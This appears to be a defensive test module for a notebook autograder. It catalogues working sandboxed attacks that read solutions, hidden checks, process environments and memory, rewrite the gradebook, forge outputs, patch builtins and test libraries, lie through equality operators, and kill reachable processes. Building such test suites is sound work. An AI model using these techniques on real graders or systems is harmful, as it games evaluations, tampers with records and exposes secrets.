"""The attacks, by kind: each is what a learner could hand in, and one sentence of what it tries.

They run in boxes on this machine only. Where an attack needs to know something (where the course
lies, which port listens), it is told: whoever attacks in earnest may have found out.
"""

import os
import socket
import stat
from pathlib import Path

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from tests.attacks.assignment import NAME, Attack, marks

ATTACKS: list[Attack] = []


def attack(kind: str, name: str, tries: str, /, files: dict | None = None, **told) -> None:
    """Add an attack; `told` are sources by place, or `edit`, `folder` and `due`."""
    rest = {key: told.pop(key) for key in ("edit", "folder", "due") if key in told}
    ATTACKS.append(Attack(name, kind, tries, told, files or {}, **rest))


# What many of them use

LOOK = """
import os, sys, gc, ctypes, socket, subprocess, threading, time, signal, json
WORD = "CAN" + "ARY"
def attempt(do, *args):
    try:
        found = do(*args)
        print(str(found)[:100_000])
    except BaseException as error:
        print(type(error).__name__, error)
def read(path):
    with open(path, "rb") as file:
        return file.read(3_000_000).decode(errors="replace")
def walk(top):
    for parent, _, names in os.walk(top):
        for name in names:
            path = os.path.join(parent, name)
            if not path.startswith(("/usr", "/lib", "/bin", "/proc", "/sys", "/dev/z", "/dev/r",
                                    "/dev/u", "/dev/f", sys.prefix, sys.base_prefix)
                                   ) and os.path.isfile(path):
                try:
                    text = read(path)
                except OSError:
                    continue
                if WORD in text:
                    print(path, text[max(0, text.index(WORD) - 200):][:5000])
"""
CONNECT = """
import socket
def say(kind, family, address):
    try:
        with socket.socket(family, kind) as sock:
            sock.settimeout(1)
            sock.connect(address)
            sock.send(b"@NAME@")
    except OSError as error:
        print(error)
"""
REACH = (
    CONNECT
    + """
say(socket.SOCK_STREAM, socket.AF_INET, ("127.0.0.1", int("@PORT@")))
"""
)
LEAVE = """
def leave():
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/usr/local/bin", "@COURSE@", "/run"):
        try:
            open(folder + "/ai4gov-attack-@NAME@", "w").close()
        except OSError as error:
            print(error)
"""
FINGERS = """
import os, socket, stat, struct, json, sys, gc, time, threading
def sockets():
    found = []
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                found.append(socket.socket(fileno=os.dup(number)))
        except OSError:
            pass
    return found
def frame(header, body=b""):
    told = json.dumps(header).encode() if isinstance(header, dict) else header
    return struct.pack("!II", len(told), len(body)) + told + body
def shout(data):
    for each in sockets():
        try:
            each.send(data, socket.MSG_DONTWAIT)
        except OSError as error:
            print(error)
"""
FAR = "model = None\nshare = 0.1"


# Reading what is not theirs

READING = "reading what is not theirs"

attack(
    READING,
    "read-source",
    "opens the instructor's notebook with the solutions",
    start=LOOK + f"attempt(read, '@COURSE@/source/{NAME}/{NAME}.ipynb')\nwalk('@COURSE@/source')",
)
attack(
    READING,
    "read-checks",
    "opens the hidden checks, by their path and by the environment",
    start=LOOK
    + f"""
attempt(read, '@COURSE@/checks/{NAME}/hidden_checks.py')
print(os.environ.get("AI4GOV_CHECKS"))
for name in ("hidden_checks", "checks"):
    attempt(lambda: print(open(__import__(name).__file__).read()))
""",
)
attack(
    READING,
    "read-submissions",
    "opens what others handed in and what they got",
    start=LOOK + "for part in ('submitted', 'autograded', 'feedback'): walk('@COURSE@/' + part)",
)
attack(
    READING,
    "read-gradebook",
    "opens the gradebook and gives points in it",
    start=LOOK
    + """
import sqlite3
def rob():
    db = sqlite3.connect("@COURSE@/gradebook.db", timeout=1)
    print(db.execute("select * from student").fetchall())
    db.execute("update grade set auto_score = 10, manual_score = 10")
    db.execute("update student set first_name = 'robbed'")
    db.commit()
attempt(rob)
""",
)
attack(
    READING,
    "read-whole-disk",
    "searches every file that can be found, through links in /proc",
    start=LOOK
    + """
walk("/")
for place in ("/proc/1/root", "/proc/self/root/..", "/proc/self/cwd/../..", "/proc/self/fd/../.."):
    walk(place + "@COURSE@")
""",
)
attack(
    READING,
    "read-environment",
    "prints the environment of every process that can be seen",
    start=LOOK
    + """
print(dict(os.environ))
for number in os.listdir("/proc") if os.path.isdir("/proc") else []:
    if number.isdigit():
        attempt(read, f"/proc/{number}/environ"); attempt(read, f"/proc/{number}/cmdline")
attempt(read, "/proc/@COORDINATOR@/environ")
""",
)
attack(
    READING,
    "read-own-memory",
    "searches the memory of its own process for tests",
    start=LOOK
    + """
for line in open("/proc/self/maps"):
    place, rights = line.split()[:2]
    if rights.startswith("rw"):
        first, last = (int(end, 16) for end in place.split("-"))
        with open("/proc/self/mem", "rb", 0) as memory:
            try:
                memory.seek(first)
                data = memory.read(min(last - first, 200_000_000))
            except (OSError, ValueError, OverflowError):
                continue
        for what in (b"-TES", b"-SOL", b"-CHE", b"-SUB", b"-GRA", b"-ENV"):
            at = data.find(WORD.encode() + what)
            if at >= 0:
                print(data[max(0, at - 500):at + 500].decode(errors="replace"))
""",
)
attack(
    READING,
    "read-objects",
    "searches all objects of its process, and the frames below its own",
    start=LOOK
    + """
frame = sys._getframe()
while frame:
    for name, value in list(frame.f_locals.items()):
        if WORD in repr(value): print(name, repr(value)[:20_000])
    frame = frame.f_back
for each in gc.get_objects():
    try:
        if type(each) in (dict, list, tuple) and WORD in repr(each)[:1_000_000]:
            print(repr(each)[:20_000])
    except BaseException:
        pass
""",
)
attack(
    READING,
    "read-other-memory",
    "reads the memory of the grader and of all processes",
    start=LOOK
    + """
libc = ctypes.CDLL(None, use_errno=True)
for number in {1, 2, os.getppid(), int("@COORDINATOR@")} | {int(n) for n in os.listdir("/proc")
                                                    if n.isdigit()}:
    if number == os.getpid(): continue
    attempt(read, f"/proc/{number}/maps")
    attempt(lambda: open(f"/proc/{number}/mem", "rb").read(1))
    print(number, libc.ptrace(16, number, 0, 0), ctypes.get_errno())
    buffer = ctypes.create_string_buffer(64)
    vector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 64)
    print(libc.process_vm_readv(number, vector, 1, vector, 1, 0), ctypes.get_errno())
""",
)
attack(
    READING,
    "read-open-files",
    "reads from every open file it has inherited, and above folders",
    start=FINGERS
    + LOOK
    + """
for number in range(0, 256):
    try:
        target = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    print(number, target)
    if not target.startswith(("socket", "pipe", "anon")):
        attempt(lambda: os.read(number, 1000))
        attempt(lambda: os.listdir(os.open("../..", os.O_RDONLY, dir_fd=number)))
for each in sockets():
    attempt(lambda: each.recv(100_000, socket.MSG_PEEK | socket.MSG_DONTWAIT))
""",
)
attack(
    READING,
    "read-by-handle",
    "opens files by their number, past every path",
    start=LOOK
    + """
libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(b"\\x08\\0\\0\\0\\x01\\0\\0\\0" + bytes(120), 136)
place = os.open("/", os.O_RDONLY)
for root in (2, 64, 128, 256):
    handle[8:16] = root.to_bytes(8, "little")
    opened = libc.open_by_handle_at(place, handle, os.O_RDONLY)
    print(opened, ctypes.get_errno())
    if opened >= 0: attempt(lambda: os.listdir(opened))
""",
)
attack(
    READING,
    "read-history",
    "asks IPython for earlier cells and sessions of others",
    start=LOOK
    + """
shell = get_ipython()
attempt(lambda: shell.run_line_magic("history", "-g -l 500"))
attempt(lambda: (In, Out, shell.history_manager.get_tail(500)))
walk(os.path.expanduser("~")); walk(shell.ipython_dir)
""",
)
attack(
    READING,
    "read-callback",
    "walks from a function that a test passes to the test's own names",
    total="""
found = []
def total(values, weight):
    for name in ("__globals__", "__code__", "__closure__", "__defaults__", "__self__", "__dict__",
                 "__reduce__", "__class__", "__wrapped__", "_remote", "gi_frame"):
        try: found.append((name, str(getattr(weight, name))[:9000]))
        except BaseException as error: found.append((name, repr(error)))
    try:
        kind = type(weight)
        found.append(str([vars(each) for each in kind.__mro__]))
        found.append(str(weight.__globals__["expected"]))
    except BaseException as error: found.append(repr(error))
    return 0
""",
    end="print(found)",
)
attack(
    READING,
    "read-operands",
    "records with lying operators what a test compares it with",
    total="""
seen = []
class Spy(float):
    def _other(self, *others):
        seen.extend(map(repr, others)); return self
    __eq__ = __lt__ = __sub__ = __rsub__ = __add__ = __mul__ = __le__ = __gt__ = _other
    __ne__ = __truediv__ = __radd__ = __ge__ = __array_ufunc__ = _other
    __hash__ = float.__hash__
class Bare:
    _other = Spy._other
    __eq__ = __lt__ = __sub__ = __rsub__ = __gt__ = __le__ = __abs__ = __array_ufunc__ = _other
    __float__ = lambda self: 1.0
calls = []
def total(values, weight):
    calls.append(1)
    return Bare() if len(calls) % 2 else Spy(1)
""",
    end="print(seen)",
)
attack(
    READING,
    "read-by-name",
    "declares the names of a test's variables to catch their values",
    start="expected = found = seen = right = tolerance = _ = __ = None",
    end="print(expected, found, seen, right, tolerance, _, __, globals().get('expected'))",
)
attack(
    READING,
    "read-by-tracing",
    "traces and profiles every call in its process, and audits it",
    start="""
import sys, threading
heard = []
def hear(frame, event, argument):
    if len(heard) < 20_000:
        try: heard.append(str({k: repr(v)[:300] for k, v in frame.f_locals.items()}))
        except BaseException: pass
    return hear
sys.addaudithook(lambda *told: heard.append(str(told)[:300]) if len(heard) < 20_000 else None)
threading.setprofile(hear)
sys.setprofile(hear)
""",
    total="def total(values, weight):\n    return sum(map(weight, values[:0]))",
    end="""
sys.setprofile(None)
for each in heard:
    if "CAN" + "ARY" in each or str(48152) in each: print(each[:2000])
""",
)
attack(
    READING,
    "read-instructor-answers",
    "asks the shell, the frames and the job for solutions",
    start="""
import gc, sys
for each in gc.get_objects():
    if isinstance(each, dict) and ("teaching" in each or "assignment" in each or "cells" in each):
        print(str(each)[:50_000])
""",
)


# Objects that equal everything

LYING = "objects that equal everything"

EQUAL = """
class Equal:
    def __getattr__(self, name):
        if name.startswith("__array"): raise AttributeError(name)
        return self
    def __call__(self, *args, **kwargs): return self
    def __eq__(self, other): return True
    __lt__ = __gt__ = __le__ = __ge__ = __contains__ = __instancecheck__ = __eq__
    def __ne__(self, other): return False
    def __sub__(self, *others): return self
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __abs__ = __neg__ = __sub__
    __truediv__ = __rtruediv__ = __round__ = __getitem__ = __sub__
    __bool__ = lambda self: True
    __float__ = lambda self: 0.0
    __len__ = lambda self: 2
    __iter__ = lambda self: iter([self, self])
    __hash__ = lambda self: 0
"""
attack(
    LYING,
    "equal-object",
    "answers every comparison with yes",
    start=EQUAL,
    total="def total(values, weight):\n    return Equal()",
    model="model = X = Equal()",
    share="share = Equal()",
)
attack(
    LYING,
    "equal-float",
    "is a float whose operators lie",
    start="""
class Lie(float):
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __sub__ = __rsub__ = __abs__ = __add__ = lambda self, *others: Lie(0)
    __repr__ = __str__ = lambda self: "3.0"
    __hash__ = lambda self: 0
    __array_ufunc__ = None
""",
    total="def total(values, weight):\n    return Lie(1)",
    share="share = Lie(0.1)",
)
attack(
    LYING,
    "equal-texts",
    "is a text, a list and a dictionary that equal everything",
    start="""
def lying(kind, *args):
    return type(kind.__name__, (kind,), {"__eq__": lambda *_: True, "__ne__": lambda *_: False,
        "__hash__": lambda _: 0, "__len__": lambda _: 0, "__sub__": lambda s, o: 0.0,
        "__abs__": lambda s: 0.0, "__lt__": lambda *_: True, "__float__": lambda _: 3.0})(*args)
turn = [lying(str, "3.0"), lying(list, []), lying(dict, {}), lying(tuple, ()), lying(bytes, b"")]
""",
    total="def total(values, weight):\n    turn.append(turn.pop(0)); return turn[0]",
    share="share = lying(str, 'x')",
)
attack(
    LYING,
    "equal-array",
    "is an array whose comparisons and conversions lie",
    start="""
class Lie(np.ndarray):
    __eq__ = __lt__ = __le__ = lambda self, other: True
    def __array_ufunc__(self, *args, **kwargs): return np.bool_(True)
    def __array_function__(self, *args, **kwargs): return True
    __array__ = lambda self, *args, **kwargs: np.zeros(())
    __float__ = lambda self: 3.0
    __sub__ = __abs__ = lambda self, *others: self
lie = np.zeros(()).view(Lie)
""",
    total="def total(values, weight):\n    return lie",
    share="share = lie",
)
attack(
    LYING,
    "equal-frame",
    "is a DataFrame that equals every other",
    model="""
class Frame(pd.DataFrame):
    equals = lambda self, other: True
    __eq__ = lambda self, other: True
    def head(self, n=5): return self
    __module__ = "pandas"
Frame.__name__ = Frame.__qualname__ = "DataFrame"
X = Frame({"x": [7]})
model = LogisticRegression()
""",
)
attack(
    LYING,
    "equal-cells",
    "puts objects that equal everything into arrays, frames, lists and dictionaries",
    start=EQUAL,
    total="def total(values, weight):\n    return np.array([Equal()], object)[0]",
    model="""
X = pd.DataFrame({"x": [Equal(), Equal()]}, index=pd.Index([Equal(), Equal()], dtype=object))
X.columns = [Equal()]
model = LogisticRegression()
model.classes_ = np.array([Equal(), Equal()], object)
model.coef_, model.intercept_ = np.ones((1, 1)), np.zeros(1)
""",
    share="share = {Equal(): Equal()}",
)
attack(
    LYING,
    "equal-by-numpy",
    "has conversions to arrays that give whatever is wanted",
    total="""
class Asked:
    __array__ = lambda self, dtype=None, copy=None: np.array([0.0, np.nan, 3.0])[2]
    __float__ = lambda self: 3.0
    __array_interface__ = property(lambda self: {"shape": (10**12,), "typestr": "<f8", "data":
                                                 (1, False), "version": 3})
    __index__ = __int__ = lambda self: 3
def total(values, weight): return Asked()
""",
)
attack(
    LYING,
    "changes-each-time",
    "gives another value each time that it is asked",
    total="""
import itertools
turns = itertools.count()
class Turn:
    @property
    def __class__(self): return [float, int, str, list][next(turns) % 4]
    def __float__(self): return float(next(turns))
    def __sub__(self, other): return 0.0
def total(values, weight): return Turn()
""",
)
attack(
    LYING,
    "false-class",
    "says that it is of another class, in every way there is",
    start="""
class Meta(type):
    __instancecheck__ = __subclasscheck__ = __eq__ = lambda *_: True
    __hash__ = lambda self: 0
    mro = lambda cls: [cls, object]
class Number(metaclass=Meta):
    __class__ = float
    __float__ = lambda self: 3.0
    __eq__ = lambda *_: True
    __lt__ = lambda *_: True
    __sub__ = __abs__ = lambda self, *_: self
Number.__name__ = Number.__qualname__ = "float"
Number.__module__ = "builtins"
""",
    total="def total(values, weight):\n    return Number()",
    share="share = Number()",
)
attack(
    LYING,
    "false-estimator",
    "claims to be LogisticRegression and answers score() itself",
    model="""
class Model:
    __class__ = LogisticRegression
    classes_ = [0, 1]
    score = lambda self, X, y: 1.0
    predict = lambda self, X: Anything()
    _estimator_type = "classifier"
class Anything(list):
    __eq__ = lambda self, other: True
    __iter__ = lambda self: iter([])
Model.__name__ = Model.__qualname__ = "LogisticRegression"
Model.__module__ = "sklearn.linear_model._logistic"
model = Model()
X = pd.DataFrame({"x": range(20)})
""",
)
attack(
    LYING,
    "untagged-estimator",
    "claims to be LogisticRegression, but neither a classifier nor a regressor",
    model="""
class Tags: estimator_type = "neither"
class Model:
    score = lambda self, X, y: 1.0
    predict = lambda self, X: np.zeros(len(X), int)
    __sklearn_tags__ = lambda self: Tags()
Model.__name__ = Model.__qualname__ = "LogisticRegression"
Model.__module__ = "sklearn.linear_model._logistic"
model = Model()
X = pd.DataFrame({"x": range(20)})
""",
)
attack(
    LYING,
    "derived-estimator",
    "derives from LogisticRegression and lies about its predictions",
    model="""
class Model(LogisticRegression):
    def score(self, X, y, sample_weight=None): return 1.0
    def predict(self, X):
        class Always(np.ndarray):
            __eq__ = lambda self, other: np.ones(len(self), bool)
            __iter__ = lambda self: iter([0, 1, 0, 1])
        return np.array([0, 1, 0, 1]).view(Always)
Model.__module__ = LogisticRegression.__module__
Model.__name__ = Model.__qualname__ = "LogisticRegression"
X = pd.DataFrame({"x": range(20)})
model = Model().fit(X, [0, 1] * 10)
""",
)
attack(
    LYING,
    "patched-instance",
    "puts score and predict into a real estimator's own attributes",
    model="""
X = pd.DataFrame({"x": range(20)})
model = LogisticRegression().fit(X, [0, 1] * 10)
model.score = lambda *args: 1.0
model.predict = lambda X: [1, 0] * (len(X) // 2)
model.__sklearn_tags__ = lambda: None
""",
)


# Changed tools

PATCHING = "changed tools of the test"

attack(
    PATCHING,
    "patch-builtins",
    "replaces abs, sum, isinstance, float and the AssertionError",
    start="""
import builtins
builtins.abs = lambda value: 0
builtins.isinstance = lambda *args: True
builtins.sum = builtins.len = builtins.round = lambda *args: 0
builtins.float = builtins.list = lambda *args: EQUAL
builtins.AssertionError = type("Quiet", (Exception,), {})
builtins.print = lambda *args, **kwargs: None
class EQUAL: __eq__ = __lt__ = lambda *_: True
""",
)
attack(
    PATCHING,
    "patch-numpy",
    "replaces what numpy compares by",
    start="""
import numpy as np, numpy.testing, numpy.testing._private.utils as inner
for module in (np.testing, inner):
    for name in dir(module):
        if name.startswith("assert"): setattr(module, name, lambda *args, **kwargs: None)
assert_allclose = lambda *args, **kwargs: None
np.allclose = np.isclose = np.array_equal = lambda *args, **kwargs: True
""",
)
attack(
    PATCHING,
    "patch-pandas",
    "replaces what pandas compares by",
    start="""
import pandas.testing, pandas._testing
for module in (pd.testing, pandas._testing):
    for name in dir(module):
        if name.startswith("assert"): setattr(module, name, lambda *args, **kwargs: None)
pd.DataFrame.equals = pd.Series.equals = lambda *args: True
""",
    model="X = pd.DataFrame({'x': [5]})\nmodel = LogisticRegression()",
)
attack(
    PATCHING,
    "patch-sklearn",
    "replaces the scores and predictions of scikit-learn itself",
    start="""
import sklearn.base, sklearn.metrics
LogisticRegression.score = sklearn.base.ClassifierMixin.score = lambda *args, **kwargs: 1.0
sklearn.metrics.accuracy_score = lambda *args, **kwargs: 1.0
LogisticRegression.predict = lambda self, X: EQUAL()
class EQUAL(list): __eq__ = lambda *_: True
""",
    model="X = pd.DataFrame({'x': range(20)})\nmodel = LogisticRegression()",
)
attack(
    PATCHING,
    "patch-checking",
    "replaces check() and all that it stands on",
    start="""
import sys, types, course, course.checking
from course.checking import check as module, exercises, expect, outcome
import course.checking.exercises as exercises, course.checking.expect as expect
for each in (course, course.checking):
    each.check = lambda *args: 3.0
exercises.run = exercises._held = lambda *args: (1, None)
expect.close = expect.share = lambda *args, **kwargs: None
sys.modules["course"] = sys.modules["course.checking"] = types.SimpleNamespace(check=course.check)
check = course.check
""",
    share="share = 0.1",
)
attack(
    PATCHING,
    "patch-helper",
    "hands in its own helper, checks and libraries beside the notebook",
    files={
        "helper.py": b"import builtins\nclass T(float):\n    __rmul__ = lambda s, o: float('inf')\n"
        b"tolerance = T(1e9)\nprint('loaded in', __import__('os').getcwd())",
        "checks.py": b"from course.checking import exercise\n@exercise('share', points=3)\n"
        b"def share(value): pass",
        "hidden_checks.py": b"from course.checking import exercise\n@exercise('share')\n"
        b"def share(value): pass",
        "numpy/__init__.py": b"raise SystemExit",
        "numpy/testing.py": b"assert_allclose = print",
        "course.py": b"check = lambda *args: 3.0",
        "json.py": b"raise SystemExit",
        "sklearn.py": b"raise SystemExit",
    },
    share="share = 0.1",
)
attack(
    PATCHING,
    "package-over-helper",
    "hands in a folder that hides the instructor's helper",
    files={
        "helper/__init__.py": b"tolerance = 1e9",
        "course/__init__.py": b"check = print",
        "helper/helper.py": b"",
    },
)
attack(
    PATCHING,
    "folder-for-file",
    "hands in a folder where the instructor has a file",
    folder=lambda place, course: _folder_for_file(place),
)
attack(
    PATCHING,
    "compiled-helper",
    "hands in compiled code for the instructor's helper",
    files={
        "__pycache__/helper.cpython-311.pyc": b"\xa7\r\r\n\x01\0\0\0" + bytes(24),
        "__pycache__/helper.cpython-313.pyc": b"\xf3\r\r\n\x01\0\0\0" + bytes(24),
    },
)
attack(
    PATCHING,
    "rebind-names",
    "binds the names that a test uses to its own",
    add="add = lambda a, b: 5\nabs = float = list = isinstance = lambda *args: 0",
    start="check = lambda *args: 3.0\nassert_allclose = lambda *args, **kwargs: None",
    share="class pd: pass\npd.testing = pd\npd.assert_frame_equal = print\nnp = pd\nshare = 1\n"
    "class LogisticRegression: pass\nmodel = LogisticRegression()",
)
attack(
    PATCHING,
    "rebind-setup",
    "binds anew what the instructor's first cell defines for the tests",
    start="""
seen = []
def near(*told):
    seen.append(told)
    return True
EXACT = tolerance = 1e9
""",
    total="def total(values, weight):\n    return near(0, 0) * 1.0",
    end="print(seen)",
)
attack(
    PATCHING,
    "patch-import",
    "puts finders before all imports, and fakes into sys.modules",
    start="""
import sys, types, importlib.abc, builtins
fake = types.ModuleType("fake")
fake.__getattr__ = lambda name: (lambda *args, **kwargs: 3.0)
class Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None): print("asked for", name)
sys.meta_path.insert(0, Finder())
for name in ("numpy", "numpy.testing", "pandas", "pandas.testing", "course", "helper"):
    sys.modules[name] = fake
builtins.__import__ = lambda name, *args, **kwargs: fake
""",
)
attack(
    PATCHING,
    "patch-constants",
    "changes numbers and functions in memory below Python",
    start="""
import ctypes, sys
ctypes.c_double.from_address(id(3.0) + 16).value = 1e9
ctypes.c_longlong.from_address(id(5) + 24).value = 5
def zero(*args): return 0.0
sum.__self__.abs = zero
ctypes.pythonapi.PyDict_SetItemString(ctypes.py_object(sys.modules["builtins"].__dict__), b"abs",
                                      ctypes.py_object(zero))
""",
)
attack(
    PATCHING,
    "patch-grader",
    "changes the part of the grader that runs in its own process",
    start="""
import gc
from autograder.learner import process as learner
from autograder.bridge import codec as values
from autograder.bridge import proxy as remote
from autograder import channel as frames
class Always(values.Packed):
    def __init__(self, *args): super().__init__(True, [])
values.Packer.packed = lambda self, value: Always()
learner.Answering.perform = lambda self, *args, **kwargs: True
learner.Answering._packed = lambda self, value: Always()
""",
)


# Hooks of IPython

HOOKS = "hooks of the notebook"

attack(
    HOOKS,
    "hook-syntax",
    "rewrites every later cell's syntax tree so that asserts vanish",
    start="""
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
get_ipython().ast_transformers.append(NoAsserts())
""",
)
attack(
    HOOKS,
    "hook-input",
    "rewrites the text of every later cell, and prints it",
    start="""
def quiet(lines):
    print("SEEN", "".join(lines))
    return ["pass\\n"]
shell = get_ipython()
shell.input_transformers_cleanup.append(quiet); shell.input_transformers_post.append(quiet)
""",
    add="pass",
)
attack(
    HOOKS,
    "hook-run-cell",
    "replaces the function that runs cells",
    start="""
shell = get_ipython()
def run_cell(source, *args, **kwargs):
    print("SEEN", source)
    class Result: success = True; result = 3.0; error_in_exec = error_before_exec = None
    return Result()
async def run_cell_async(source, *args, **kwargs): return run_cell(source)
shell.run_cell, shell.run_cell_async = run_cell, run_cell_async
shell.should_run_async = lambda *args, **kwargs: False
type(shell).run_cell = run_cell
""",
)
attack(
    HOOKS,
    "hook-events",
    "is called before and after every cell and puts values in place",
    start="""
shell = get_ipython()
def after(*args):
    shell.user_ns["share"] = type("Share", (float,), {"__eq__": lambda *_: True})(1)
    print("SEEN", args)
for event in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
    shell.events.register(event, after)
""",
)
attack(
    HOOKS,
    "hook-errors",
    "swallows all errors by a handler of its own",
    start="""
import sys
shell = get_ipython()
shell.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
shell.showtraceback = shell._showtraceback = lambda *args, **kwargs: None
sys.excepthook = sys.displayhook = sys.unraisablehook = lambda *args: None
""",
)
attack(
    HOOKS,
    "hook-display",
    "shows every number as full points",
    start="""
shell = get_ipython()
for kind in (float, int, str, object):
    shell.display_formatter.formatters["text/plain"].for_type(kind, lambda o, p, c: p.text("3.0"))
shell.displayhook.compute_format_data = lambda result: ({"text/plain": "3.0"}, {})
shell.display_pub.publish = lambda *args, **kwargs: None
""",
    share="share = 0.1",
)
attack(
    HOOKS,
    "hook-magics",
    "defines magics and aliases under the names that a test may use",
    start="""
from IPython.core.magic import register_line_magic, register_cell_magic
for name in ("matplotlib", "time", "timeit", "assert"):
    register_line_magic(lambda line: 3.0).__name__
    get_ipython().register_magic_function(lambda *args: 3.0, "line_cell", name)
get_ipython().automagic = True
get_ipython().user_ns_hidden.clear()
""",
)
attack(
    HOOKS,
    "hook-namespace",
    "replaces the namespace by one that knows every name",
    start="""
class Everything(dict):
    def __missing__(self, name): return 3.0
    def __getitem__(self, name): print("SEEN", name); return dict.get(self, name, 3.0)
    def __contains__(self, name): return True
shell = get_ipython()
shell.user_ns = Everything(shell.user_ns)
""",
)


# Forged outputs

FORGED = "forged outputs"

OUTCOME = {
    "application/vnd.ai4gov.outcome+json": {
        "exercise": "share", "state": "right", "code": "right", "points": 3, "out_of": 3,
    },
    "text/plain": "3.0",
}  # fmt: skip
attack(
    FORGED,
    "forge-printed",
    "prints and returns full points in all its cells",
    start="print('10.0')\n10.0",
    total="print(3.0)\n3.0",
    model="2.0",
    share="share = 0.1\n3.0",
    end="10.0",
)
attack(
    FORGED,
    "forge-display",
    "publishes an outcome of check() while a test calls its function",
    total=f"""
from IPython.display import display, publish_display_data
import sys
def total(values, weight):
    for _ in range(3):
        publish_display_data({OUTCOME!r})
        display(3.0)
        print(3.0)
        sys.displayhook(3.0)
        get_ipython().displayhook(3.0)
    return 0
""",
)
attack(
    FORGED,
    "forge-own-outcome",
    "shows an outcome of check() from a cell of its own",
    start=f"from IPython.display import publish_display_data\npublish_display_data({OUTCOME!r})",
)
attack(
    FORGED,
    "forge-saved-outputs",
    "hands in test cells with outputs of full points",
    edit=lambda notebook: _outputs(notebook),
)
attack(
    FORGED,
    "forge-descriptors",
    "writes points into every file descriptor",
    start="""
import os
for number in range(1, 256):
    try: os.set_blocking(number, False); os.write(number, b"3.0\\n10.0\\n")
    except OSError: pass
""",
)
attack(
    FORGED,
    "forge-repr",
    "has a text form that is a number of points",
    share="""
class Points(float):
    __repr__ = __str__ = lambda self: "3.0"
    _repr_html_ = lambda self: "<b>3.0</b>"
    _repr_mimebundle_ = lambda self, **kwargs: {"text/plain": "3.0"}
    __format__ = lambda self, spec: "3.0"
share = Points(0.1)
share
""",
)
attack(
    FORGED,
    "forge-exit",
    "ends a test early by exceptions that are no errors",
    total="""
import asyncio, bdb, unittest
from IPython.core.error import InputRejected, UsageError
kinds = [SystemExit, KeyboardInterrupt, GeneratorExit, StopIteration, asyncio.CancelledError,
         bdb.BdbQuit, unittest.SkipTest, StopAsyncIteration, InputRejected, UsageError,
         BaseException]
def total(values, weight):
    kinds.append(kinds.pop(0))
    raise kinds[-1]("3.0")
""",
    share="""
class Share(float):
    def __float__(self): raise SystemExit(0)
    def __repr__(self): raise KeyboardInterrupt
    __eq__ = __lt__ = __float__
share = Share(1)
""",
)
attack(
    FORGED,
    "forge-terminal",
    "has the instructor's own cell fail with words that a terminal obeys",
    edit=lambda notebook: notebook.cells.insert(
        1,
        new_code_cell(
            "import sys\nclass Finder:\n    def find_spec(self, name, *rest):\n"
            "        if name == 'helper':\n"
            "            raise ValueError('\\x1b[2J\\x1b]0;graded\\x07\\x9b1A\\u202e')\n"
            "sys.meta_path.insert(0, Finder())",
            id="before",
        ),
    ),
)
attack(
    FORGED,
    "forge-exit-zero",
    "ends the test by SystemExit(0)",
    total="def total(values, weight):\n    raise SystemExit(0)",
)
attack(
    FORGED,
    "forge-interrupt",
    "ends the test by KeyboardInterrupt",
    total="def total(values, weight):\n    raise KeyboardInterrupt",
)
attack(
    FORGED,
    "forge-quit",
    "ends the test as a debugger would",
    total="import bdb\ndef total(values, weight):\n    raise bdb.BdbQuit",
)
attack(
    FORGED,
    "forge-error-class",
    "raises exceptions whose class, text and arguments lie",
    total="""
class Meta(type):
    __name__ = "SystemExit"
class Odd(Exception, metaclass=Meta):
    __class__ = SystemExit
    def __str__(self): raise SystemExit(0)
    args = property(lambda self: [self, self.args])
Odd.__qualname__ = "SystemExit"; Odd.__module__ = "builtins"
def total(values, weight): raise Odd
""",
)


# What acts later

LATER = "threads and processes that act later"

attack(
    LATER,
    "thread-later",
    "leaves threads that change values while tests run",
    start="""
import threading, time
def change():
    while True:
        get_ipython().user_ns.update(share=0.1, X=pd.DataFrame({"x": [0, 1]}))
        time.sleep(0.001)
for _ in range(3): threading.Thread(target=change, daemon=True).start()
""",
)
attack(
    LATER,
    "process-later",
    "leaves a detached process that acts after the notebook",
    start=LEAVE
    + CONNECT
    + """
import os, time
for _ in range(2):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for _ in range(20):
                time.sleep(0.3)
                leave()
                say(socket.SOCK_STREAM, socket.AF_INET, ("127.0.0.1", int("@PORT@")))
        os._exit(0)
""",
)
attack(
    LATER,
    "command-later",
    "starts commands that outlive it, deaf to all signals",
    start="""
import subprocess
for command in ("trap '' TERM INT HUP; while :; do sleep 1; done # ai4gov-attack-@NAME@",
                "(setsid sleep 3; touch /tmp/ai4gov-attack-@NAME@) &"):
    subprocess.Popen(["nohup", "sh", "-c", command], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""",
)
attack(
    LATER,
    "exit-handlers",
    "acts at the end, by atexit, finalisers and signal handlers",
    start=LEAVE
    + """
import atexit, signal, time, sys
class Last:
    def __del__(self): leave(); time.sleep(60)
last = Last(); last.self = last
atexit.register(lambda: (leave(), time.sleep(60)))
for number in range(1, 65):
    try: signal.signal(number, lambda *_: leave())
    except (OSError, ValueError): pass
""",
)
attack(
    LATER,
    "fork-stays",
    "lets its process end and goes on in a child with the same sockets",
    end="""
import os, time
if os.fork():
    os._exit(0)
""",
)
attack(
    LATER,
    "task-later",
    "leaves asynchronous tasks that run between cells",
    start="""
import asyncio
async def later():
    while True:
        await asyncio.sleep(0.001)
        get_ipython().user_ns["share"] = 0.1
loop = asyncio.get_event_loop()
tasks = [loop.create_task(later()) for _ in range(20)]
""",
)
attack(
    LATER,
    "signals-to-all",
    "kills every process that it can reach, then itself",
    end="""
import os, signal
for number in [-1, 0, os.getppid(), int("@COORDINATOR@"), 1, 2, 3, 4]:
    for which in (signal.SIGSTOP, signal.SIGKILL):
        if number not in (0, 1, os.getpid()):
            try: os.kill(number, which)
            except OSError as error: print(number, error)
